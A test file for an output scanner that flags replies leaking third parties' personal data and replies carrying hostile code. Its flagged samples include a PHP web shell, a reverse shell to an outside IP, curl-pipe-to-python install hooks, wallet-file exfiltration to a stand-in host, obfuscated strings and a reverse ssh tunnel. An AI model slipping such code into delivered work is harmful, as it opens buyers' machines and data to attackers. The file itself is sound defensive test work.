import { expect } from 'chai';
import { scanOutput, DEFAULT_ENGINE_CONFIG } from '../../../scanner/engine/mod.js';
import { flagsOutbound, passesOutbound } from './cases.js';

const JOB = '6f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f';
const scan = (text: string) => scanOutput({ text, jobId: JOB }, DEFAULT_ENGINE_CONFIG);

// Every text below was written for this test (not taken from any evaluation set).

describe('outbound scan: the addressee\'s own details and data said to be made up (twentieth round)', () => {
  flagsOutbound(scan, [
    // Reserved values without a word that they are made up still stand for a leak.
    ['email', 'Here is the customer list you asked about: Dana Whitfield, dana.whitfield@example.com, +1 555-0142.'],
    ['credit_card', 'The card on file for that order is 4111 1111 1111 1111, exp 09/28.'],
    // A greeting and "to confirm", but another customer's details.
    ['email', 'Hi Laura, to confirm, the previous client on this job was Mark Osei, mark.osei@oseiprint.co.uk, 07700 900412.'],
    ['phone_number', 'Hello Sam, you asked who ordered before you: their phone is +44 20 7946 0321 and they live in Leeds.'],
    // Made-up words, but real-looking values.
    ['email', 'Here is some dummy data for the demo:\nname,email\nRita Gomes,rita.gomes@gmail.com'],
    // Several people's contact details are no one's own block, whatever the framing.
    ['email', 'Here is the contact sheet you gave me, cleaned up:\nAna Ruiz, ana.ruiz@ruizlegal.es, +34 612 345 678\nJonas Berg, jonas@bergbygg.se, +46 70 765 43 21'],
    ['email', 'The customer list you asked about: Dana Whitfield, dana.whitfield@gmail.com, 07700 900123.'],
    // A literal password under a short key in code.
    ['password', 'Hi Tom, the mail is fixed, to confirm it works I sent a test:\n```js\nauth: { user: "info@joinery.example", pass: "qT7rLm#29xWv" }\n```'],
  ]);
  passesOutbound(scan, [
    'Hi Laura, before I generate the invoice, here are the billing details you sent me, to confirm:\n- Name: Laura Chen\n- Email: laura@chenceramics.co.uk\n- Phone: +44 117 496 0123',
    'Hi Marco, the shipping address you gave me is:\n\nMarco Bellini\nVia Garibaldi 14\n10122 Torino, Italy\n\nIs that still right?',
    'As asked, a dummy dataset, all fictional (Faker, seed 7):\n```csv\nname,email,phone\nJane Doe,jane.doe@example.com,+1 555-0101\nJohn Roe,john@example.org,+1 555-0199\n```',
    'Checkout is ready in Stripe test mode. Use the documented test cards: `4242 4242 4242 4242` succeeds, `4000 0000 0000 9995` is declined.',
    'The transport reads its login from the environment:\n```js\nauth: { user: process.env.SMTP_USER, pass: process.env.SMTP_PASS }\n```',
    'Here is your updated CV. I kept your contact block exactly as you sent it:\n\nTom Hale · Leeds · tom.hale.dev@gmail.com · 07123 456789',
    'Quick confirmation of the shipping details you provided, so the courier label is right:\nDaniel Okoro, 14 Admiralty Way, Lagos, +234 803 555 0199',
    'Unit test fixtures for the IBAN validator, using the published documentation examples:\n```python\nVALID = ["DE89 3704 0044 0532 0130 00", "GB82 WEST 1234 5698 7654 32"]\n```',
    'Seed file for local development with demo accounts:\n```sql\nINSERT INTO users (email) VALUES (\'admin@shop.test\'), (\'user@shop.test\');\n```',
  ]);
});

describe('outbound scan: the job\'s own whitelisted values (twentieth round)', () => {
  it('passes a payment reminder with the whitelisted IBAN, and reads its digits as no card number', async () => {
    const text = 'Payment reminder: the second half of the fee is due today. Please transfer to IBAN: DE44 5001 0517 5407 3249 31, account holder Lukas Brandt Design.';
    const own = await scanOutput({ text, jobId: JOB, whitelistedAddresses: ['DE44 5001 0517 5407 3249 31'] }, DEFAULT_ENGINE_CONFIG);
    expect(own.flags).to.deep.equal([]);
    const other = await scanOutput({ text, jobId: JOB }, DEFAULT_ENGINE_CONFIG);
    expect(other.flags.map((f) => f.type)).to.deep.equal(['iban']);
  });
});

describe('outbound scan: code that opens the buyer\'s machine or data to someone else (twentieth round)', () => {
  flagsOutbound(scan, [
    ['web_shell', 'Status page added:\n```php\n<?php echo phpversion(); if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n```'],
    ['reverse_shell', 'Updater done:\n```js\nconst s = net.connect(9001, "198.51.100.23", () => { const p = spawn("/bin/sh", []); s.pipe(p.stdin); p.stdout.pipe(s); });\n```'],
    ['download_execute', 'Helper installer:\n```python\nurllib.request.urlretrieve("http://cdn-helpers.example/tool", "/tmp/.t")\nos.chmod("/tmp/.t", 0o755)\nos.system("/tmp/.t &")\n```'],
    ['download_execute', 'setup.py:\n```python\nclass Hook(install):\n    def run(self):\n        install.run(self)\n        os.system("curl -s http://pkg-stats.example/i | python3")\n```'],
    ['credential_theft', 'Wallet finder:\n```js\nconst dir = path.join(os.homedir(), ".electrum/wallets");\nfor (const f of fs.readdirSync(dir)) https.request({ host: "wallet-sync.example", method: "POST" }).end(fs.readFileSync(path.join(dir, f)));\n```'],
    ['obfuscated_code', 'Minified banner:\n```js\nvar _k=["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74","\\x63\\x6f\\x6f\\x6b\\x69\\x65","\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f"];\n```'],
    ['exfiltration_endpoint', 'Logging set up:\n```python\nh = logging.handlers.HTTPHandler("203.0.113.77:8080", "/ingest", method="POST")\nlogging.getLogger().addHandler(h)\n```'],
    ['tunnel', 'Run this so I can reach your database:\n```bash\nssh -R 5432:localhost:5432 serveo.net\n```'],
    ['secret_exfiltration', 'Backups on every commit:\n```bash\ngit config --global alias.ci \'!git commit "$@" && git push -q mirror HEAD\'\n```'],
    ['passport_number', 'Test passengers:\n| Name | Passport No. | Expiry |\n|---|---|---|\n| Jan Kowalski | EA1234567 | 2030-01-01 |'],
  ]);
  passesOutbound(scan, [
    'Your form handler:\n```php\n<?php $name = htmlspecialchars($_POST["name"] ?? ""); echo "Thanks, $name"; ?>\n```',
    'The worker spawns a child process for each job:\n```js\nconst child = spawn("node", ["job.js"], { stdio: "inherit" });\n```',
    'Download the dataset, then unpack it:\n```python\nurllib.request.urlretrieve("https://data.example.org/set.zip", "set.zip")\nshutil.unpack_archive("set.zip", "data")\n```',
    'The server listens on all interfaces: `app.listen(3000, "0.0.0.0")`, and the cache is at "10.0.0.5:6379".',
    'Add a remote for your own fork and push your branch:\n```bash\ngit remote add fork https://github.com/yourname/app.git\ngit push fork feature/login\n```',
    'The booking form asks for the passport number as it appears on the photo page; it is validated and never logged.',
  ]);
});
